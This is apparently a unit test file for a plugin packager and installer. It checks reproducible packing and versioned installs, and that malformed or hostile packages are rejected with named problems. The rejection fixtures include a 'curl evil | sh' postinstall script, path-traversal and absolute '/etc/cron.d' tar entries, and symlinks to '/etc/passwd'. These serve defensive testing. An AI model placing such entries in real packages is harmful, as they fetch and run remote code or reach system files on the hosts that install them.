import { test } from '@japa/runner'
import { randomBytes } from 'node:crypto'
import { cp, readFile, readdir, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { buildIntegrity, sha256 } from '#sdk/packaging/integrity'
import { inspectPackage } from '#sdk/packaging/inspect_package'
import { pack } from '#sdk/packaging/pack'
import { PackageRejectedError } from '#sdk/packaging/package_rejected_error'
import { installPackage } from '#carriers/package_installer'
import { fixturePlugin, scratchDir } from '#tests/unit/carriers/support/plugin_fixtures'
import { rawTarGz, type RawTarEntry } from '#tests/unit/carriers/support/raw_tar'

const ENTRY = `export default { kind: 'courier-hub.carrier-plugin', contractVersion: '1.0.0', statusMap: {}, create: () => ({}) }\n`

async function goodManifest(): Promise<Record<string, any>> {
  return JSON.parse(await readFile(join(fixturePlugin('good_v1'), 'manifest.json'), 'utf8'))
}

/** A well-formed package of the given files, with integrity.json computed unless given. */
function tarball(
  files: Record<string, string | Buffer>,
  extra: RawTarEntry[] = [],
  integrity?: string
): Buffer {
  const contents = new Map(
    Object.entries(files).map(([path, content]) => [path, Buffer.from(content)])
  )
  const document = integrity ?? JSON.stringify(buildIntegrity(contents))
  return rawTarGz([
    ...[...contents].map(([path, content]) => ({ path: `package/${path}`, content })),
    { path: 'package/integrity.json', content: document },
    ...extra,
  ])
}

async function packageFiles(
  manifest: Record<string, any>,
  overrides: Record<string, string | Buffer> = {}
) {
  return {
    'manifest.json': JSON.stringify(manifest),
    'index.js': ENTRY,
    'README.md': '# test\n',
    ...overrides,
  }
}

async function rejection(source: string, options = {}): Promise<PackageRejectedError> {
  try {
    await inspectPackage(source, options)
  } catch (error) {
    if (error instanceof PackageRejectedError) return error
    throw error
  }
  throw new Error(`${source} was accepted`)
}

test.group('Plugin packaging | pack and install', () => {
  test('pack produces a reproducible tarball holding exactly the four files', async ({
    assert,
    cleanup,
  }) => {
    const scratch = await scratchDir(cleanup)
    const source = join(scratch, 'src-plugin')
    await cp(fixturePlugin('good_v1'), source, { recursive: true })
    await writeFile(join(source, 'README.md'), '# Good carrier\n')

    const first = await pack(source, { outDir: join(scratch, 'a') })
    const second = await pack(source, { outDir: join(scratch, 'b') })
    assert.equal(first.sha256, second.sha256)
    assert.equal(first.sha256, sha256(await readFile(first.tarball)))
    assert.match(first.tarball, /good_carrier-1\.0\.0\.tgz$/)
    assert.deepEqual(Object.keys(first.files).sort(), ['README.md', 'index.js', 'manifest.json'])
    assert.equal(first.files['index.js'], sha256(await readFile(join(source, 'index.js'))))

    const inspected = await inspectPackage(first.tarball)
    assert.deepEqual([...inspected.files.keys()].sort(), [
      'README.md',
      'index.js',
      'integrity.json',
      'manifest.json',
    ])
    assert.equal(inspected.manifest.id, 'good_carrier')
  })

  test('install unpacks into <root>/<id>/<version>, is idempotent, and refuses changed content', async ({
    assert,
    cleanup,
  }) => {
    const scratch = await scratchDir(cleanup)
    const source = join(scratch, 'src-plugin')
    await cp(fixturePlugin('good_v1'), source, { recursive: true })
    await writeFile(join(source, 'README.md'), '# Good carrier\n')
    const packed = await pack(source, { outDir: scratch })
    const root = join(scratch, 'installed')

    const installed = await installPackage(packed.tarball, root)
    assert.equal(installed.dir, join(root, 'good_carrier', '1.0.0'))
    assert.equal(installed.sha256, packed.sha256)
    const unpacked = await readdir(installed.dir)
    assert.deepEqual(unpacked.sort(), ['README.md', 'index.js', 'integrity.json', 'manifest.json'])
    await inspectPackage(installed.dir)
    const again = await installPackage(packed.tarball, root)
    assert.equal(again.dir, installed.dir)

    await writeFile(join(source, 'README.md'), '# Changed without a version bump\n')
    const repacked = await pack(source, { outDir: join(scratch, 'again') })
    await assert.rejects(
      () => installPackage(repacked.tarball, root),
      /already installed with different content/
    )
  })

  test('pack bundles TypeScript sources into one self-contained ESM entry', async ({
    assert,
    cleanup,
  }) => {
    const scratch = await scratchDir(cleanup)
    const { OWN_FLEET_DIR } = await import('#tests/unit/carriers/support/plugin_fixtures')
    const packed = await pack(OWN_FLEET_DIR, { outDir: scratch })
    const inspected = await inspectPackage(packed.tarball, { expectedSha256: packed.sha256 })
    const entry = inspected.files.get('dist/index.js')!.toString('utf8')
    const imports = [...entry.matchAll(/^import .* from '([^']+)'/gm)].map((match) => match[1])
    assert.deepEqual(imports, ['node:crypto'])
    assert.notMatch(entry, /\brequire\(/, 'no CommonJS require left for Node to resolve')
    const module = await import(
      `data:text/javascript;base64,${Buffer.from(entry).toString('base64')}`
    )
    assert.equal(module.default.kind, 'courier-hub.carrier-plugin')
    assert.equal(module.default.statusMap.assigned, 'accepted')
  })
})

test.group('Plugin packaging | rejected packages name the problem', () => {
  const cases: Array<{
    title: string
    build: (manifest: Record<string, any>) => Promise<Buffer>
    problem: RegExp
    options?: object
  }> = [
    {
      title: 'invalid manifest',
      build: async (manifest) =>
        tarball(
          await packageFiles({ ...manifest, id: 'Bad Id', version: '1.x', money: 'dollars' })
        ),
      problem:
        /manifest\.json: id must be a lowercase slug[\s\S]*version must be a semantic version[\s\S]*money must be one of "fen", "yuan", "cents"/,
    },
    {
      title: 'unsatisfied hostApi',
      build: async (manifest) => tarball(await packageFiles({ ...manifest, hostApi: '^2.0.0' })),
      problem: /hostApi "\^2\.0\.0" is not satisfied by this hub's plugin API 1\.0\.0/,
    },
    {
      title: 'wrong digest',
      build: async (manifest) => {
        const files = await packageFiles(manifest)
        const integrity = JSON.stringify(
          buildIntegrity(new Map(Object.entries(files).map(([p, c]) => [p, Buffer.from(c)])))
        )
        return tarball({ ...files, 'index.js': ENTRY + '// tampered\n' }, [], integrity)
      },
      problem: /integrity mismatch for index\.js: expected sha256 [0-9a-f]{64}, got [0-9a-f]{64}/,
    },
    {
      title: 'oversize package',
      build: async (manifest) =>
        tarball(
          await packageFiles(manifest, { 'README.md': randomBytes(64 * 1024).toString('base64') })
        ),
      problem: /the package is \d+\.\d KiB; the limit is 16\.0 KiB/,
      options: { limits: { maxPackageBytes: 16 * 1024 } },
    },
    {
      title: 'oversize file',
      build: async (manifest) =>
        tarball(await packageFiles(manifest, { 'README.md': 'x'.repeat(300 * 1024) })),
      problem: /README\.md is 300\.0 KiB; the per-file limit is 256\.0 KiB/,
      options: { limits: { maxFileBytes: 256 * 1024 } },
    },
    {
      title: '../ entry',
      build: async (manifest) =>
        tarball(await packageFiles(manifest), [{ path: 'package/../../evil.js', content: 'x' }]),
      problem: /entry "package\/\.\.\/\.\.\/evil\.js" escapes the package folder with "\.\."/,
    },
    {
      title: 'absolute entry',
      build: async (manifest) =>
        tarball(await packageFiles(manifest), [{ path: '/etc/cron.d/evil', content: 'x' }]),
      problem: /entry "\/etc\/cron\.d\/evil" has an absolute path/,
    },
    {
      title: 'symlink entry',
      build: async (manifest) =>
        tarball(await packageFiles(manifest), [
          { path: 'package/secrets', type: '2', linkTarget: '/etc/passwd' },
        ]),
      problem:
        /entry "package\/secrets" is a SymbolicLink; packages may contain regular files only/,
    },
    {
      title: 'missing entry file',
      build: async (manifest) => {
        const files: Record<string, string> = await packageFiles(manifest)
        delete files['index.js']
        return tarball(files)
      },
      problem: /entry file index\.js \(manifest\.entry\) is missing from the package/,
    },
    {
      title: 'native addon',
      build: async (manifest) =>
        tarball(
          await packageFiles(manifest, {
            'build/addon.node': Buffer.from([0x7f, 0x45, 0x4c, 0x46]),
          })
        ),
      problem: /build\/addon\.node is a native addon; plugins must be pure JavaScript/,
    },
    {
      title: 'install script',
      build: async (manifest) =>
        tarball(await packageFiles(manifest, { 'postinstall.sh': 'curl evil | sh' })),
      problem: /unexpected file postinstall\.sh/,
    },
    {
      title: 'entry that imports packages or network modules',
      build: async (manifest) =>
        tarball(
          await packageFiles(manifest, {
            'index.js': `import axios from 'axios'\nimport http from 'node:http'\n${ENTRY}`,
          })
        ),
      problem:
        /index\.js imports "axios"; the entry must be a single bundled file[\s\S]*imports "node:http", which plugins may not use/,
    },
    {
      title: 'corrupt tarball',
      build: async () => Buffer.from('not a tarball at all'),
      problem: /corrupt|malformed|manifest\.json is missing/,
    },
  ]

  test('{title}')
    .with(cases)
    .run(async ({ assert, cleanup }, { build, problem, options }) => {
      const scratch = await scratchDir(cleanup)
      const file = join(scratch, 'candidate.tgz')
      await writeFile(file, await build(await goodManifest()))
      const error = await rejection(file, options)
      assert.match(error.message, problem)
      assert.isAbove(error.problems.length, 0)
    })

  test('a digest other than the registry expects is refused', async ({ assert, cleanup }) => {
    const scratch = await scratchDir(cleanup)
    const file = join(scratch, 'candidate.tgz')
    await writeFile(file, tarball(await packageFiles(await goodManifest())))
    const error = await rejection(file, { expectedSha256: 'a'.repeat(64) })
    assert.match(error.message, /the tarball's sha256 is [0-9a-f]{64}, expected a{64}/)
  })

  test('an unpacked folder with a symlink is refused', async ({ assert, cleanup }) => {
    const scratch = await scratchDir(cleanup)
    const dir = join(scratch, 'unpacked')
    await cp(fixturePlugin('good_v1'), dir, { recursive: true })
    await symlink('/etc/passwd', join(dir, 'passwd'))
    const error = await rejection(dir)
    assert.match(error.message, /entry "passwd" is a symbolic link/)
  })
})
